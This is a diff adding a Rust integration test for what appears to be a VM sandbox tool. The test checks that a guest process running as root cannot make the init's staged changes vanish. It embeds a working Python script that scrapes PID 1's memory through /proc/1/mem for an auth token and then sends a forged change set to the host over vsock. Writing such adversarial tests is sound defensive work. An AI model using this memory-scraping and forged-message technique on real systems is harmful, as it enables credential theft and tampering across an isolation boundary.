@@ -42,6 +42,36 @@ print("control=connected")
 k.close()
 "#;
 
+/// As guest root that reads PID 1's memory: finds this boot's token (the
+/// run spec the init received, in its heap) and sends a change set with it
+/// before the init exports. The init's own stream then arrives second.
+const TOKEN_THIEF: &str = r#"
+import re, socket
+token = None
+with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb") as mem:
+    for line in maps:
+        fields = line.split()
+        if "rw" not in fields[1]:
+            continue
+        start, end = (int(x, 16) for x in fields[0].split("-"))
+        try:
+            mem.seek(start)
+            data = mem.read(end - start)
+        except OSError:
+            continue
+        m = re.search(rb'"token":"([0-9a-f]{64})"', data)
+        if m:
+            token = bytes.fromhex(m.group(1).decode())
+            break
+print("token=" + ("found" if token else "missing"))
+s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+s.bind((socket.VMADDR_CID_ANY, 902))
+s.connect((2, 1026))
+s.sendall(token + b"STKDCHG\n\x02\0\0\0forged")
+s.close()
+print("forged=sent")
+"#;
+
 #[test]
 fn an_unprivileged_guest_process_cannot_reach_the_inits_ports() {
     let Some(rig) = rig::require("an_unprivileged_guest_process_cannot_reach_the_inits_ports") else { return };
@@ -95,5 +125,28 @@ fn a_forged_change_set_from_guest_root_is_reported_and_the_real_one_staged() {
     assert!(
         out.stderr.contains("real.txt") || out.stdout.contains("real.txt"),
         "the command's change is staged\n{out}"
+    );
+}
+
+#[test]
+fn a_guest_root_that_steals_the_token_and_sends_first_cannot_make_the_inits_changes_vanish() {
+    let Some(rig) = rig::require("a_guest_root_that_steals_the_token_and_sends_first") else { return };
+    let out = rig.sh(
+        &script(&format!(
+            "cat > thief.py <<'EOF'\n{TOKEN_THIEF}\nEOF
+             $S run --ci --summary s.json -- sh -c '/usr/bin/python3 thief.py; echo made > real.txt'
+             echo \"run=$?\"
+             $S diff --stat; echo \"stat=$?\"
+             cat s.json",
+        )),
+        T,
+    );
+    assert!(out.stdout.contains("token=found") && out.stdout.contains("forged=sent"), "the attack ran\n{out}");
+    assert!(out.stdout.contains("run=125"), "--ci fails a run whose guest forged a change connection\n{out}");
+    assert!(out.stdout.contains("a second change connection with this run's token arrived"), "reported\n{out}");
+    assert!(out.stdout.contains("stat=0"), "{out}");
+    assert!(
+        out.stderr.contains("real.txt") || out.stdout.contains("real.txt"),
+        "the init's change is staged, not the forger's\n{out}"
     );
 }
